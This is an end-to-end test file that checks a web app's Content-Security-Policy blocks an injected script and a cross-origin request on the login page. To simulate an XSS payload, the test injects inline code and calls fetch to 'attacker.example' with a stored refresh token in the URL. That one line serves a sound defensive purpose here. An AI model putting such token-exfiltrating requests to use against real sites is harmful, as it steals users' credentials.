import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, openTab, seen, web } from '../support/browser';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

describe('the Content-Security-Policy', () => {
  it('lets the app run but stops an injected script and a request to another origin', async () => {
    const { context, page, errors } = await openTab(browser);
    await page.goto(web('/login'));
    await seen(page.getByRole('heading', { name: 'Sign in' }));
    await page.evaluate(() => window.localStorage.setItem('refreshToken', 'stolen-if-you-can'));

    // What an XSS payload would do: run inline code, then send the stored token elsewhere.
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.head.append(script);
      const sent = await fetch(`https://attacker.example/?t=${window.localStorage.getItem('refreshToken')}`).then(
        () => true,
        () => false,
      );
      // Violation events are queued as tasks: let them arrive.
      await new Promise((resolve) => setTimeout(resolve, 0));
      return { ran: (window as { __injected?: boolean }).__injected === true, sent, violations: violations.sort() };
    });
    expect(outcome).toEqual({ ran: false, sent: false, violations: ['connect-src', 'script-src-elem'] });
    expect(errors).toEqual([]);
    await context.close();
  });
});
